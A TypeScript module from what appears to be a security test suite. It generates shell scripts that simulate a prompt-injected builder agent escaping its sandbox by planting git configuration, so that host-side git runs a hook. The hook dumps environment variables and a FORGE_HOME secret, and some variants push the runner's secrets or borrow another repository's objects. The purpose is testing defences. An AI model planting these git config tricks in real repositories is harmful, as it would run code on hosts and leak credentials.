// Shell scripts a prompt-injected builder's code runs in its box (as `tests/test.sh`, which
// `make test` and the base's verify.sh run) to plant git state in the workspace's `.git`: each
// reaches a config that names a command through another mechanism git reads from a
// repository-controlled path. The planted command ("the hook") writes the host canary file —
// and what it can read of the runner's environment and FORGE_HOME — wherever it runs: in the
// box that file's directory does not exist (the box has a /tmp of its own), so the file can
// only appear if a git on the host ran the command.

export type PlantVariant =
  | "commondir"
  | "config.worktree"
  | "include.path"
  | "includeIf"
  | "core.worktree"
  | "info/attributes"
  | "gitdir file"
  | "objects/info/alternates";

export const PLANT_VARIANTS: PlantVariant[] = [
  "commondir",
  "config.worktree",
  "include.path",
  "includeIf",
  "core.worktree",
  "info/attributes",
  "gitdir file",
  "objects/info/alternates",
];

/** Printed first by every attack script: the builder's code did run. */
export const RAN = "forge-sec attack script ran";

export interface PlantTargets {
  /** The host canary file the hook writes. */
  canaryFile: string;
  /** A FORGE_HOME secret the hook copies into the canary file, if it can read it. */
  forgeHomeFile: string;
  /** Another repository's objects directory (the alternates variant)… */
  otherObjects: string;
  /** …and the id of a blob only that repository holds. */
  otherBlob: string;
}

const q = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;

/**
 * The hook: records that it ran (args, environment, a FORGE_HOME secret) in the canary file,
 * and behaves as a pass-through filter when git gives it no arguments (clean/smudge).
 */
function hookScript(t: PlantTargets): string {
  return [
    "#!/bin/sh",
    `{ echo "hook ran: $0 $*"; env; cat ${q(t.forgeHomeFile)}; } > ${q(t.canaryFile)} 2>/dev/null`,
    '[ "$#" -eq 0 ] && cat',
    "exit 0",
  ].join("\n");
}

/** Every config key of the issue that makes git run a command. `$1`: the config file. */
const DRIVERS = [
  "drivers() {",
  '  git config -f "$1" filter.x.clean "$H"',
  '  git config -f "$1" filter.x.smudge "$H"',
  '  git config -f "$1" diff.x.command "$H"',
  '  git config -f "$1" diff.external "$H"',
  '  git config -f "$1" remote.origin.receivepack "$H </dev/null; git-receive-pack"',
  '  git config -f "$1" remote.origin.uploadpack "$H </dev/null; git-upload-pack"',
  '  git config -f "$1" core.fsmonitor "$H"',
  '  git config -f "$1" core.sshCommand "$H"',
  "}",
];

/** `.git/c`: a common dir with the workspace's objects, refs and config (plus the hook). */
function commonDirCopy(hook: string): string[] {
  return [
    'mkdir -p "$C/info"',
    'cp -R "$W/.git/objects" "$W/.git/refs" "$C/" 2>/dev/null',
    'cp "$W/.git/packed-refs" "$C/" 2>/dev/null',
    'cp "$W/.git/config" "$C/config"',
    `cat > "$C/hook.sh" <<'FORGE_HOOK'\n${hook}\nFORGE_HOOK`,
  ];
}

const ATTRIBUTES = "printf '* filter=x diff=x\\n' > \"$W/.gitattributes\"";
const COMMONDIR = 'printf c > "$W/.git/commondir"';

function variantBody(v: PlantVariant, t: PlantTargets): string[] {
  switch (v) {
    case "commondir":
      return ['drivers "$C/config"', ATTRIBUTES, COMMONDIR];
    case "config.worktree":
      return [
        'git config -f "$C/config" core.repositoryformatversion 1',
        'git config -f "$C/config" extensions.worktreeConfig true',
        'drivers "$W/.git/config.worktree"',
        ATTRIBUTES,
        COMMONDIR,
      ];
    case "include.path":
      // The included file is one the builder wrote in the working tree.
      return [
        'mkdir -p "$W/tools"',
        'drivers "$W/tools/git-drivers.cfg"',
        'git config -f "$C/config" include.path "$W/tools/git-drivers.cfg"',
        ATTRIBUTES,
        COMMONDIR,
      ];
    case "includeIf":
      return [
        'drivers "$C/drivers.cfg"',
        'git config -f "$C/config" "includeIf.gitdir:/.path" "$C/drivers.cfg"',
        ATTRIBUTES,
        COMMONDIR,
      ];
    case "core.worktree":
      // The work tree becomes FORGE_HOME (three levels above the workspace): the runner's
      // `git add -A` would commit its journal and secrets, and push them. git honours
      // core.worktree beside a commondir only from config.worktree.
      return [
        'FH=$(cd "$W/../../.." && pwd)',
        'drivers "$C/config"',
        'git config -f "$C/config" core.repositoryformatversion 1',
        'git config -f "$C/config" extensions.worktreeConfig true',
        'git config -f "$W/.git/config.worktree" core.worktree "$FH"',
        'printf \'* filter=x\\n\' | tee "$W/.git/info/attributes" > "$C/info/attributes"',
        COMMONDIR,
      ];
    case "info/attributes":
      // Nothing committed selects the driver: only attribute files inside .git do.
      return [
        'drivers "$C/config"',
        'mkdir -p "$W/.git/info"',
        'printf \'* filter=x diff=x\\n\' | tee "$W/.git/info/attributes" > "$C/info/attributes"',
        COMMONDIR,
      ];
    case "gitdir file":
      // A git dir of the builder's making, named by a `gitdir:` file: at the top (replacing
      // .git, expected to be refused) and in a subdirectory (an embedded repository). The hook
      // moves out of .git first: replacing .git moves .git/c.
      return [
        'mkdir -p "$W/vendor/lib"',
        'cp "$C/hook.sh" "$W/vendor/hook.sh"',
        `H="sh '$W/vendor/hook.sh'"`,
        'drivers "$C/config"',
        'cp "$W/.git/HEAD" "$C/HEAD"',
        "printf '* filter=x diff=x\\n' > \"$C/info/attributes\"",
        'printf "gitdir: %s\\n" "$C" > "$W/vendor/lib/.git"',
        "printf '* filter=x diff=x\\n' > \"$W/vendor/lib/.gitattributes\"",
        'echo "vendored" > "$W/vendor/lib/lib.txt"',
        'mv "$W/.git" "$W/.git-real" && printf "gitdir: %s\\n" "$W/.git-real/c" > "$W/.git"',
      ];
    case "objects/info/alternates":
      // Borrow the other repository's objects and commit a tree naming its blob (git asks no
      // object to exist for that): a push from the host would pack the blob from there.
      return [
        `echo ${q(t.otherObjects)} > "$W/.git/objects/info/alternates"`,
        `git update-index --add --cacheinfo 100644,${t.otherBlob},stolen.txt`,
        "tree=$(git write-tree --missing-ok)",
        "commit=$(git -c user.name=b -c user.email=b@example.invalid commit-tree $tree -p HEAD -m borrowed)",
        'git update-ref HEAD "$commit"',
      ];
  }
}

/** The whole `tests/test.sh`: plants once (verify runs it again), always passes. */
export function plantScript(v: PlantVariant, t: PlantTargets): string {
  return [
    "#!/bin/sh",
    `echo ${q(RAN)}`,
    "W=$(pwd)",
    'C="$W/.git/c"',
    `H="sh '$C/hook.sh'"`,
    ...DRIVERS,
    'if [ ! -e "$W/.git/forge-sec-planted" ]; then',
    '  touch "$W/.git/forge-sec-planted"',
    ...commonDirCopy(hookScript(t)).map((l) => `  ${l}`),
    ...variantBody(v, t).map((l) => `  ${l}`),
    `  echo ${q(`planted: ${v}`)}`,
    "fi",
    'echo "1 passed"',
    "exit 0",
    "",
  ].join("\n");
}
